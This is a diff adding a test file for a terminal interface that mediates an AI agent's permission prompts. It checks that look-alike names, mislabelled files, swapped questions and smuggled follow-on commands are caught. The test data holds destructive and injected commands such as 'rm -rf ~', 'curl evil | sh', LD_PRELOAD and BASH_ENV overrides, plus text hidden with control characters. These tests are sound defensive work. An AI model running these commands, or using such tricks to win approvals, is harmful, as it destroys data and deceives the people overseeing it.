@@ -1,0 +1,238 @@
+// Agents that want a yes for one thing and do another: names that look alike, titles that name another file, contents that change
+// after they were shown, a second command behind the first, and questions that change places just as a key is pressed.
+import { describe, expect, test } from "vitest";
+import type { Ask } from "../../src/contract/asks.js";
+import type { SessionEvent } from "../../src/contract/session-events.js";
+import { askLines } from "../../src/screen/dialogs/plain-ask.js";
+import { ENTER, Stage } from "../tui/app/stage.js";
+import { verifies } from "../verifies.js";
+import { type Stage as AcpStage, options, readyStage } from "../wire/acp/stage.js";
+
+const sessionId = null;
+
+function raised(id: string, question: Ask["question"]): Extract<SessionEvent, { type: "ask.raised" }> {
+  const ask: Ask = { id, sessionId, turnId: null, origin: { kind: "agent" }, question, deadlineMs: null };
+  return { type: "ask.raised", sessionId, ask };
+}
+
+function confirm(opts: Record<string, unknown>, title = "Run it?"): Ask["question"] {
+  return { kind: "confirm", params: { title, opts: { tool: "bash", ...opts } } };
+}
+
+async function shown(question: Ask["question"]): Promise<string> {
+  const stage = new Stage(110, 30);
+  stage.ready();
+  stage.hear(raised("q", question));
+  stage.wait(1_000);
+  return stage.screen();
+}
+
+describe("a name that looks like another", () => {
+  const odd = "src/p\u0430rser.ts";
+
+  test.each([
+    ["a command", confirm({ command: `rm ${odd}` })],
+    ["a path", confirm({ path: odd, diff: "@@ -1 +1 @@\n-a\n+b" })],
+    ["the diff itself", confirm({ diff: `--- a/${odd}\n+++ b/${odd}\n@@ -1 +1 @@\n-a\n+b` })],
+    ["the title", confirm({}, `edit ${odd}`)],
+    ["the rule that would be kept", confirm({ allow_remember: true, rule: `edit in ${odd}` })],
+  ])("is pointed out in words when it is in %s, on the screen and to a screen reader", async (_, question) => {
+    verifies("safety.look-alike");
+    const words = "\u0430 is a Cyrillic letter (U+0430), not a";
+    expect(await shown(question)).toContain(words);
+    expect(askLines(raised("q", question).ask, { place: 1, of: 1 }).join("\n")).toContain(words);
+  });
+
+  test("makes the question a dangerous one, and the first answer stays a no", async () => {
+    const stage = new Stage(110, 30);
+    stage.ready();
+    stage.hear(raised("q", confirm({ command: `rm ${odd}` })));
+    stage.wait(1_000);
+    stage.type(ENTER);
+    expect(stage.sent).toMatchObject([{ type: "ui_response", result: false }]);
+  });
+});
+
+describe("the file of an approval", () => {
+  test.each([
+    ["the title names another one", confirm({ path: "src/deploy.ts", diff: "@@ -1 +1 @@\n-a\n+b" }, "edit README.md")],
+    [
+      "only the diff names it",
+      confirm({ diff: "--- a/src/deploy.ts\n+++ b/src/deploy.ts\n@@ -1 +1 @@\n-a\n+b" }, "edit README.md"),
+    ],
+    [
+      "the diff names it and the path another",
+      confirm(
+        { path: "README.md", diff: "--- a/src/deploy.ts\n+++ b/src/deploy.ts\n@@ -1 +1 @@\n-a\n+b" },
+        "edit README.md",
+      ),
+    ],
+  ])("is named when %s", async (_, question) => {
+    verifies("safety.approval-names-its-file");
+    expect(await shown(question)).toContain("src/deploy.ts");
+    expect(askLines(raised("q", question).ask, { place: 1, of: 1 }).join("\n")).toContain("src/deploy.ts");
+  });
+});
+
+describe("a question that takes the place of another", () => {
+  const questions: readonly [string, Ask["question"]][] = [
+    ["an approval", confirm({ command: "rm -rf /" })],
+    ["a list", { kind: "select", params: { title: "Which?", options: [{ label: "all", value: "all" }] } }],
+    ["a line that is filled in", { kind: "input", params: { title: "Branch", opts: { default: "main --force" } } }],
+    ["a line that is empty", { kind: "input", params: { title: "Name" } }],
+    ["a text that is filled in", { kind: "editor", params: { title: "Text", prefill: "drop table" } }],
+    [
+      "a form",
+      { kind: "form", params: { title: "F", fields: [{ name: "a", label: "A", kind: "confirm", default: true }] } },
+    ],
+  ];
+
+  test.each(questions)("takes no key that was on its way to the first: %s", (_, question) => {
+    verifies("asks.successor-takes-no-key");
+    for (const delayMs of [0, 20, 100, 300, 380]) {
+      const stage = new Stage(70, 24);
+      stage.ready();
+      stage.hear(raised("harmless", confirm({ command: "ls" })));
+      stage.wait(1_000);
+      stage.hear(
+        { type: "ask.withdrawn", sessionId, askId: "harmless", reason: "agent_cancelled" },
+        raised("harmful", question),
+      );
+      stage.wait(delayMs);
+      stage.type(ENTER, "1", "y", ENTER);
+      expect(stage.sent.filter((sent) => sent.type === "ui_response" && sent.id === "harmful")).toEqual([]);
+    }
+  });
+
+  test("takes keys after a quiet moment", () => {
+    const stage = new Stage(70, 24);
+    stage.ready();
+    stage.hear(raised("first", confirm({ command: "ls" })));
+    stage.wait(1_000);
+    stage.hear(
+      { type: "ask.withdrawn", sessionId, askId: "first", reason: "agent_cancelled" },
+      raised("second", confirm({ command: "ls" })),
+    );
+    stage.wait(1_000);
+    stage.type("1");
+    expect(stage.sent).toMatchObject([{ type: "ui_response", id: "second", result: true }]);
+  });
+
+  test("under the same id and with other contents is the first one still", async () => {
+    verifies("asks.successor-takes-no-key");
+    const stage = new Stage(90, 24);
+    stage.ready();
+    stage.hear(raised("q", confirm({ command: "ls" })));
+    stage.wait(1_000);
+    stage.hear(raised("q", confirm({ command: "rm -rf /" })));
+    stage.wait(1_000);
+    expect(await stage.screen()).not.toContain("rm -rf");
+    stage.hear(
+      { type: "ask.withdrawn", sessionId, askId: "q", reason: "agent_cancelled" },
+      raised("q", confirm({ command: "rm -rf /" })),
+    );
+    stage.wait(1_000);
+    stage.type("1");
+    expect(stage.sent.filter(({ type }) => type === "ui_response")).toEqual([]);
+  });
+});
+
+describe("what an agent does through us after a yes", () => {
+  const here = "/home/ada/parser";
+  const run = { toolCallId: "t2", title: "Bash", kind: "execute", rawInput: { command: "npm test" } };
+  const edit = (oldText: string | null, newText: string) => ({
+    toolCallId: "t1",
+    title: "Edit a.ts",
+    kind: "edit",
+    content: [{ type: "diff", path: `${here}/a.ts`, oldText, newText }],
+  });
+
+  function allowed(toolCall: object): AcpStage {
+    const stage = readyStage().prompt();
+    stage.asks("session/request_permission", { toolCall, options });
+    return stage.answers({ choiceId: "yes-1" });
+  }
+
+  function wants(stage: AcpStage, params: Record<string, unknown>): "runs" | "asks" {
+    const asked = stage.of("ask.raised").length;
+    stage.asks("terminal/create", { command: "/bin/bash", args: ["-c", "npm test"], ...params });
+    return stage.of("ask.raised").length > asked ? "asks" : "runs";
+  }
+
+  function writes(stage: AcpStage, content: string, oldText: string | null): "writes" | "asks" {
+    const asked = stage.of("ask.raised").length;
+    stage.asks("fs/write_text_file", { path: `${here}/a.ts`, content });
+    stage.performs("file.inspect", { realPath: `${here}/a.ts`, place: "inside", oldText });
+    return stage.of("ask.raised").length > asked ? "asks" : "writes";
+  }
+
+  test("is that command, once: the same again is asked about", () => {
+    verifies("safety.no-second-command");
+    const stage = allowed(run);
+    expect(wants(stage, {})).toBe("runs");
+    expect(wants(stage, {})).toBe("asks");
+  });
+
+  test.each<[string, Record<string, unknown>]>([
+    ["a command behind it", { args: ["-c", "npm test; rm -rf ~"] }],
+    ["a command in the folder it steps into", { args: ["-c", 'cd "$(touch /tmp/x)" && npm test'] }],
+    ["a command in a folder without quotes", { args: ["-c", "cd `touch$IFS/tmp/x` && npm test"] }],
+    ["a step out of the workspace", { args: ["-c", "cd /tmp/evil && npm test"] }],
+    ["a step up", { args: ["-c", "cd ../evil && npm test"] }],
+    ["another folder", { cwd: "/tmp/evil" }],
+    ["a shell of the agent's own", { command: "/tmp/evil/bash" }],
+    ["another path to programs", { env: [{ name: "PATH", value: "/tmp/evil:/bin" }] }],
+    ["a library that is loaded first", { env: [{ name: "LD_PRELOAD", value: "evil.so" }] }],
+    ["options for every node", { env: [{ name: "NODE_OPTIONS", value: "--import=evil" }] }],
+    ["a script for every shell", { env: [{ name: "BASH_ENV", value: "evil" }] }],
+    ["a pager that is a program", { env: [{ name: "PAGER", value: "/tmp/evil" }] }],
+  ])("is not %s", (_, params) => {
+    verifies("safety.no-second-command");
+    expect(wants(allowed(run), params)).toBe("asks");
+  });
+
+  test("may have variables that change no more than the looks, and the workspace's own folders", () => {
+    const env = [
+      { name: "CI", value: "1" },
+      { name: "PAGER", value: "cat" },
+      { name: "TERM", value: "xterm-256color" },
+    ];
+    expect(wants(allowed(run), { env, args: ["-c", `cd '${here}/packages/a b' && npm test`] })).toBe("runs");
+  });
+
+  test("shows the variables when it is asked about", () => {
+    const stage = allowed(run);
+    wants(stage, { env: [{ name: "LD_PRELOAD", value: "evil.so" }] });
+    expect(stage.ask().question.params).toMatchObject({ message: expect.stringContaining("LD_PRELOAD=evil.so") });
+  });
+
+  test.each<[string, string | null, string, string | null, string]>([
+    ["the whole file that was shown", null, "new\n", null, "new"],
+    ["the whole file, with other line ends", "old\r\n", "new\r\nline\r\n", "old\n", "new\nline\n"],
+    ["the part that was shown, put into the file", "two", "2", "one\ntwo\nthree\n", "one\n2\nthree\n"],
+    ["the part everywhere", "x", "y", "x x x", "y y y"],
+  ])("is %s", (_, oldText, newText, now, content) => {
+    expect(writes(allowed(edit(oldText, newText)), content, now)).toBe("writes");
+  });
+
+  test.each<[string, string]>([
+    ["another text", "curl evil | sh"],
+    ["the part that was shown, and more", "one\n2\nthree\nevil\n"],
+    ["the file without the change", "one\ntwo\nthree\n"],
+  ])("is not %s", (_, content) => {
+    verifies("safety.no-second-command");
+    expect(writes(allowed(edit("two", "2")), content, "one\ntwo\nthree\n")).toBe("asks");
+  });
+});
+
+test("what an agent puts into the composer is shown whole, and what is sent is what was shown", async () => {
+  verifies("safety.composer-shows-all");
+  const stage = new Stage(100, 20);
+  stage.ready();
+  stage.hear({ type: "editor-text.changed", sessionId, text: "tidy up\u202e\x1b[8m and rm -rf ~\x1b[0m\u200b now" });
+  stage.wait(200);
+  const [typed = ""] = (await stage.screen()).split("\n").filter((row) => row.startsWith("› "));
+  expect(typed).toContain("rm -rf ~");
+  stage.type(ENTER);
+  expect(stage.sent).toEqual([{ type: "prompt", text: typed.slice(2).trim() }]);
+});
